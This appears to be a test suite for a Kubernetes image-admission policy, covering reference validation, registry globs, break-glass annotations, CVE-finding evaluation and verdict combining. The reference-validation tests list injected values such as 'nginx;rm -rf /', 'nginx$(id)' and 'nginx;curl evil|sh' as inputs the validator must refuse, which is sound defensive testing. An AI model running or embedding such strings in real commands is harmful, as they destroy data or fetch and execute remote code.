import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parsePolicy, defaultPolicy } from '../config/policy-schema.ts';
import type { ImageVerdict } from '../domain/policy.ts';
import { breakGlassAnnotation, checkImageReference, combine, evaluateFindings, globMatch, preScanVerdict, registryEntryMatches } from './index.ts';
import { parseReference } from '../image/index.ts';
import { DIGEST_A, DIGEST_B, finding, scanned } from './testing.ts';

const NOW = new Date('2025-06-15T12:00:00Z');

describe('image reference checks', () => {
  it('accepts references as Kubernetes users write them', () => {
    for (const img of ['nginx', 'nginx:latest', 'ghcr.io/acme/a:2', 'localhost:5000/x/y@' + DIGEST_A, '[::1]:5000/app:1', 'Registry.Example.com/app']) {
      assert.equal(checkImageReference(img).ok, true, img);
    }
  });
  it('refuses shell metacharacters, white space, control bytes, leading dash, oversize and bad grammar', () => {
    const bad = ['nginx;rm -rf /', 'nginx$(id)', 'a|b', 'a`b`', 'nginx latest', 'nginx\n', '-oProxyCommand=x', 'x'.repeat(10 * 1024), '', 'library/UPPER', 'nginx:', 'a@sha256:12', 'nginx:ta g'];
    for (const img of bad) {
      const r = checkImageReference(img);
      assert.equal(r.ok, false, JSON.stringify(img.slice(0, 40)));
    }
    const long = checkImageReference('a'.repeat(10 * 1024));
    assert.ok(!long.ok && /10240 characters/.test(long.why));
  });
});

describe('globs and registry entries', () => {
  it('globs match whole strings, * crosses "/"', () => {
    assert.equal(globMatch('nginx:*', 'nginx:1.25'), true);
    assert.equal(globMatch('docker.io/library/*', 'docker.io/library/nginx:1'), true);
    assert.equal(globMatch('nginx', 'nginx:1'), false);
    assert.equal(globMatch('team-?', 'team-a'), true);
    assert.equal(globMatch('a.b', 'axb'), false, 'dot is literal');
  });
  it('registry entries match host (any port unless given), sub-domains and whole repository components', () => {
    const ref = (s: string) => parseReference(s);
    assert.equal(registryEntryMatches('ghcr.io/acme', ref('ghcr.io/acme/app:1')), true);
    assert.equal(registryEntryMatches('ghcr.io/acme', ref('ghcr.io/acme-evil/app:1')), false);
    assert.equal(registryEntryMatches('ghcr.io/acme', ref('ghcr.io/acme')), true);
    assert.equal(registryEntryMatches('docker.io', ref('nginx')), true);
    assert.equal(registryEntryMatches('docker.io/library', ref('nginx:1')), true);
    assert.equal(registryEntryMatches('docker.io/library', ref('bitnami/nginx')), false);
    assert.equal(registryEntryMatches('registry.local', ref('registry.local:5000/app')), true);
    assert.equal(registryEntryMatches('registry.local:5000', ref('registry.local:5001/app')), false);
    assert.equal(registryEntryMatches('*.corp.example', ref('reg.eu.corp.example/app')), true);
    assert.equal(registryEntryMatches('*.corp.example', ref('corp.example.evil.io/app')), false);
    assert.equal(registryEntryMatches('registry.local', ref('Registry.Local/app')), true, 'host is case-insensitive');
  });
});

describe('preScanVerdict', () => {
  const p = parsePolicy({
    registries: { allow: ['ghcr.io/acme', 'docker.io/library'], deny: ['ghcr.io/acme/legacy'] },
    excludedNamespaces: ['kube-system', 'team-*-sandbox'],
    breakGlass: { enabled: true },
  });
  it('denies an invalid reference with "invalid image reference", even in excluded namespaces and with break-glass', () => {
    const v = preScanVerdict('nginx;curl evil|sh', 'kube-system', { 'portcullis.image-policy.k8s.io/break-glass': 'INC-1' }, p);
    assert.equal(v?.allowed, false);
    assert.equal(v?.code, 'invalid-image');
    assert.match(v?.reason ?? '', /^invalid image reference "nginx;curl evil\|sh": /);
  });
  it('bounds the echoed image of a 10 KB reference', () => {
    const v = preScanVerdict('a'.repeat(10240), undefined, {}, p);
    assert.equal(v?.code, 'invalid-image');
    assert.ok((v?.reason.length ?? 0) < 200);
  });
  it('excluded namespaces (names and globs) are admitted without checks', () => {
    assert.equal(preScanVerdict('quay.io/x/y:1', 'kube-system', {}, p)?.code, 'namespace-excluded');
    assert.equal(preScanVerdict('quay.io/x/y:1', 'team-a-sandbox', {}, p)?.allowed, true);
    assert.equal(preScanVerdict('quay.io/x/y:1', 'team-a', {}, p)?.code, 'registry-denied');
  });
  it('deny list wins over the allow list; allow list refuses others; Docker Hub normalised', () => {
    assert.equal(preScanVerdict('ghcr.io/acme/legacy/app:1', 'prod', {}, p)?.code, 'registry-denied');
    assert.match(preScanVerdict('ghcr.io/acme/legacy/app:1', 'prod', {}, p)?.reason ?? '', /registry ghcr.io\/acme\/legacy is denied/);
    assert.equal(preScanVerdict('ghcr.io/acme/app:1', 'prod', {}, p), undefined);
    assert.equal(preScanVerdict('nginx:1.25', 'prod', {}, p), undefined, 'nginx = docker.io/library/nginx');
    const other = preScanVerdict('bitnami/redis:7', 'prod', {}, p);
    assert.equal(other?.code, 'registry-denied');
    assert.match(other?.reason ?? '', /docker\.io\/bitnami\/redis is not in the allowed registries/);
  });
  it('require-digest refuses tags and accepts digests', () => {
    const d = parsePolicy({ requireDigest: true });
    assert.equal(preScanVerdict('nginx:1.25', 'prod', {}, d)?.code, 'digest-required');
    assert.equal(preScanVerdict(`nginx@${DIGEST_A}`, 'prod', {}, d), undefined);
    assert.equal(preScanVerdict(`nginx:1.25@${DIGEST_A}`, 'prod', {}, d), undefined);
  });
  it('break-glass admits without checks only when enabled and the annotation qualifies', () => {
    const key = 'portcullis.image-policy.k8s.io/break-glass';
    assert.equal(preScanVerdict('quay.io/x/y:1', 'prod', { [key]: 'INC-42' }, p)?.code, 'break-glass');
    assert.equal(preScanVerdict('quay.io/x/y:1', 'prod', { [key]: 'false' }, p)?.code, 'registry-denied');
    assert.equal(preScanVerdict('quay.io/x/y:1', 'prod', { [key]: '' }, p)?.code, 'registry-denied');
    assert.equal(preScanVerdict('quay.io/x/y:1', 'prod', { [key]: 'INC-42' }, defaultPolicy), undefined, 'disabled by default');
    const docs = parsePolicy({ breakGlass: { enabled: true, annotation: '*.image-policy.k8s.io/ticket-*', value: 'break-glass' } });
    assert.deepEqual(breakGlassAnnotation({ 'mycluster.image-policy.k8s.io/ticket-1234': 'break-glass' }, docs), {
      key: 'mycluster.image-policy.k8s.io/ticket-1234',
      value: 'break-glass',
    });
    assert.equal(breakGlassAnnotation({ 'mycluster.image-policy.k8s.io/ticket-1234': 'yes' }, docs), undefined);
  });
});

describe('evaluateFindings', () => {
  const findings = [
    finding('CVE-2023-0001', 'HIGH', 'zlib', '1.2.11', '1.2.12'),
    finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7', ['GHSA-aaaa-bbbb-cccc']),
    finding('CVE-2023-0002', 'MEDIUM', 'bash', '5.1'),
    finding('CVE-2023-0003', 'CRITICAL', 'glibc', '2.36'),
    finding('CVE-2023-0004', 'LOW', 'tar', '1.34', '1.35'),
  ];
  it('counts HIGH and CRITICAL by default, worst first, names the worst in the reason', () => {
    const v = evaluateFindings(scanned('nginx:latest', findings), 'prod', defaultPolicy, NOW);
    assert.equal(v.allowed, false);
    assert.equal(v.code, 'vulnerable');
    assert.deepEqual(v.findings.map((f) => f.advisoryId), ['CVE-2023-1234', 'CVE-2023-0003', 'CVE-2023-0001']);
    assert.equal(
      v.reason,
      'nginx:latest (sha256:abababababab): 2 CRITICAL, 1 HIGH: CVE-2023-1234 (openssl 3.0.2, fixed 3.0.7), CVE-2023-0003 (glibc 2.36, no fix), CVE-2023-0001 (zlib 1.2.11, fixed 1.2.12)',
    );
    assert.equal(v.digest, DIGEST_A);
  });
  it('severities and ignore-unfixed filter', () => {
    const p = parsePolicy({ severities: 'CRITICAL', ignoreUnfixed: true });
    const v = evaluateFindings(scanned('nginx:latest', findings), 'prod', p, NOW);
    assert.deepEqual(v.findings.map((f) => f.advisoryId), ['CVE-2023-1234']);
    const clean = evaluateFindings(scanned('nginx:latest', [findings[3]!]), 'prod', p, NOW);
    assert.equal(clean.code, 'clean');
    assert.equal(clean.allowed, true);
  });
  it('maxFindingsInMessage bounds the named findings and says there are more', () => {
    const p = parsePolicy({ maxFindingsInMessage: 1 });
    const v = evaluateFindings(scanned('nginx:latest', findings), 'prod', p, NOW);
    assert.equal(v.worst?.length, 1);
    assert.match(v.reason, /CVE-2023-1234 \(openssl 3\.0\.2, fixed 3\.0\.7\), …$/);
    const many = Array.from({ length: 500 }, (_, i) => finding(`CVE-2024-${String(i).padStart(5, '0')}`, 'HIGH', `p${i}`.repeat(20), '1.0', '2.0'));
    const big = evaluateFindings(scanned('nginx:latest', many), 'prod', parsePolicy({ maxFindingsInMessage: 20 }), NOW);
    assert.ok(big.reason.length <= 480, `reason is ${big.reason.length} characters`);
    assert.match(big.reason, /^nginx:latest \(sha256:abababababab\): 500 HIGH: /);
  });
  it('exceptions by id or alias, image pattern and namespace; expired ones ignored and reported', () => {
    const p = parsePolicy({
      exceptions: [
        { id: 'GHSA-aaaa-bbbb-cccc', images: ['nginx:*'], namespaces: ['prod'], expires: '2025-12-31', reason: 'SEC-1 no exploit path' },
        { id: 'CVE-2023-0003', expires: '2025-06-14', reason: 'SEC-2 expired yesterday' },
        { id: 'CVE-2023-0001', images: ['docker.io/library/nginx:*'], reason: 'SEC-3 normalised form' },
      ],
    });
    const v = evaluateFindings(scanned('nginx:latest', findings), 'prod', p, NOW);
    assert.deepEqual(v.findings.map((f) => f.advisoryId), ['CVE-2023-0003']);
    assert.deepEqual(v.excepted?.map((e) => [e.id, e.advisoryIds]).sort(), [
      ['CVE-2023-0001', ['CVE-2023-0001']],
      ['GHSA-aaaa-bbbb-cccc', ['CVE-2023-1234']],
    ]);
    assert.deepEqual(v.expiredExceptions?.map((e) => e.id), ['CVE-2023-0003']);
    assert.doesNotMatch(v.reason, /SEC-/, 'exception text never appears in the deny message');
    // Another namespace: the first exception does not apply.
    const staging = evaluateFindings(scanned('nginx:latest', findings), 'staging', p, NOW);
    assert.ok(staging.findings.some((f) => f.advisoryId === 'CVE-2023-1234'));
    // A date-only expiry is valid through the end of that day (UTC).
    const lastDay = evaluateFindings(scanned('nginx:latest', findings), 'prod', p, new Date('2025-06-14T23:59:00Z'));
    assert.ok(!lastDay.findings.some((f) => f.advisoryId === 'CVE-2023-0003'));
  });
  it('all counting findings excepted: allowed with code excepted', () => {
    const p = parsePolicy({ exceptions: [{ id: '*', images: ['nginx:latest'], reason: 'accepted risk' }] });
    const v = evaluateFindings(scanned('nginx:latest', findings), 'prod', p, NOW);
    assert.equal(v.allowed, true);
    assert.equal(v.code, 'excepted');
  });
  it('pending and error follow onPending / onError (fail closed by default)', () => {
    const pend = evaluateFindings({ state: 'pending', image: 'nginx:1', reason: 'queued' }, 'prod', defaultPolicy, NOW);
    assert.deepEqual([pend.allowed, pend.code, pend.reason], [false, 'pending', 'nginx:1: scan in progress, retry']);
    const err = evaluateFindings({ state: 'error', image: 'nginx:1', code: 'REGISTRY_UNREACHABLE', reason: 'registry unreachable' }, 'prod', defaultPolicy, NOW);
    assert.deepEqual([err.allowed, err.code], [false, 'scan-error']);
    assert.match(err.reason, /scan failed: registry unreachable/);
    const open = parsePolicy({ onError: 'allow', onPending: 'allow' });
    assert.equal(evaluateFindings({ state: 'pending', image: 'nginx:1', reason: 'q' }, 'prod', open, NOW).allowed, true);
    assert.equal(evaluateFindings({ state: 'error', image: 'nginx:1', code: 'X', reason: 'boom' }, 'prod', open, NOW).allowed, true);
  });
});

describe('evaluateFindings memo (cached scan results are re-decided without a pass over findings)', () => {
  const findings = [finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7')];
  const p = parsePolicy({ exceptions: [{ id: 'CVE-2023-1234', namespaces: ['prod'], expires: '2025-06-30', reason: 'r' }] });
  it('same inputs give equal verdicts; fromCache follows the check', () => {
    const a = evaluateFindings(scanned('nginx:1', findings, DIGEST_A, false), 'prod', p, NOW);
    const b = evaluateFindings(scanned('nginx:1', findings, DIGEST_A, true), 'prod', p, NOW);
    assert.deepEqual({ ...a, fromCache: true }, b);
    assert.equal(a.fromCache, false);
    assert.equal(a.code, 'excepted');
  });
  it('crossing an exception expiry, another namespace, image, digest or policy is decided afresh', () => {
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'prod', p, NOW).code, 'excepted');
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'prod', p, new Date('2025-06-30T23:59:59Z')).code, 'excepted');
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'prod', p, new Date('2025-07-01T00:00:01Z')).code, 'vulnerable');
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'prod', p, NOW).code, 'excepted', 'and back (clock set back)');
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'staging', p, NOW).code, 'vulnerable');
    const v2 = evaluateFindings(scanned('nginx:2', findings, DIGEST_A), 'prod', p, NOW);
    assert.equal(v2.image, 'nginx:2');
    assert.match(v2.reason, /^nginx:2 /);
    assert.equal(evaluateFindings(scanned('nginx:1', findings, DIGEST_B), 'prod', p, NOW).digest, DIGEST_B);
    assert.equal(evaluateFindings(scanned('nginx:1', findings), 'prod', defaultPolicy, NOW).code, 'vulnerable');
  });
});

describe('combine', () => {
  const clean: ImageVerdict = { image: 'alpine:3.22', digest: DIGEST_A, allowed: true, code: 'clean', reason: 'alpine:3.22: clean', findings: [] };
  const bad = evaluateFindings(scanned('nginx:latest', [finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7')]), 'prod', defaultPolicy, NOW);
  it('any deny denies, whatever the order (no last-write-wins)', () => {
    for (const order of [[bad, clean], [clean, bad], [clean, bad, clean]]) {
      const d = combine(order, defaultPolicy);
      assert.equal(d.allowed, false);
      assert.equal(d.outcome, 'deny');
      assert.equal(d.code, 'vulnerable');
      assert.match(d.reason, /^1 of \d images denied: nginx:latest \(sha256:abababababab\): 1 CRITICAL: CVE-2023-1234/);
      assert.equal(d.auditAnnotations['advisories'], 'CVE-2023-1234');
    }
  });
  it('the decisive code prefers denials, then the priority order', () => {
    const inv: ImageVerdict = { image: 'x;y', allowed: false, code: 'invalid-image', reason: 'invalid image reference', findings: [] };
    assert.equal(combine([bad, inv], defaultPolicy).code, 'invalid-image');
    assert.equal(combine([clean], defaultPolicy).code, 'clean');
    assert.equal(combine([clean, { ...clean, code: 'excepted' }], defaultPolicy).code, 'excepted');
  });
  it('warn mode admits with one warning per denied image (≤ 256 characters)', () => {
    const d = combine([clean, bad], parsePolicy({ mode: 'warn' }));
    assert.equal(d.allowed, true);
    assert.equal(d.outcome, 'warn');
    assert.equal(d.warnings.length, 1);
    assert.match(d.warnings[0]!, /^would be denied: nginx:latest/);
    assert.ok(d.warnings.every((w) => w.length <= 256 && !w.includes('\n')));
    assert.equal(d.auditAnnotations['decision'], 'warn');
  });
  it('audit mode admits with audit annotations only', () => {
    const d = combine([clean, bad], parsePolicy({ mode: 'audit' }));
    assert.equal(d.allowed, true);
    assert.equal(d.outcome, 'audit');
    assert.deepEqual(d.warnings, []);
    assert.equal(d.auditAnnotations['decision'], 'audit');
    assert.match(d.auditAnnotations['denied-images'] ?? '', /^nginx:latest@sha256:/);
  });
  it('break-glass is recorded in the decision and the audit annotations', () => {
    const bg: ImageVerdict = { image: 'quay.io/x:1', allowed: true, code: 'break-glass', reason: 'r', findings: [] };
    const d = combine([bg], defaultPolicy, { breakGlass: { key: 'portcullis.image-policy.k8s.io/break-glass', value: 'INC-42' } });
    assert.equal(d.allowed, true);
    assert.equal(d.breakGlass, true);
    assert.equal(d.code, 'break-glass');
    assert.equal(d.auditAnnotations['break-glass'], 'portcullis.image-policy.k8s.io/break-glass=INC-42');
    assert.match(d.warnings[0] ?? '', /break-glass annotation/);
  });
  it('bounds the message when many images are denied', () => {
    const many = Array.from({ length: 100 }, (_, i) => ({ ...bad, image: `registry.example/team/app-${i}:1` }));
    const d = combine(many, defaultPolicy);
    assert.ok(d.reason.length <= 2000);
    assert.match(d.reason, /… and \d+ more$/);
    assert.ok(Object.values(d.auditAnnotations).every((v) => v.length <= 1024));
  });
  it('expired exceptions become warnings and an audit annotation', () => {
    const p = parsePolicy({ exceptions: [{ id: 'CVE-2023-1234', expires: '2025-01-01', reason: 'old' }] });
    const v = evaluateFindings(scanned('nginx:latest', [finding('CVE-2023-1234', 'CRITICAL', 'openssl', '3.0.2', '3.0.7')]), 'prod', p, NOW);
    const d = combine([v], p);
    assert.equal(d.allowed, false);
    assert.ok(d.warnings.some((w) => /exception for CVE-2023-1234 expired 2025-01-01; not applied/.test(w)));
    assert.equal(d.auditAnnotations['expired-exceptions'], 'CVE-2023-1234@2025-01-01');
  });
});
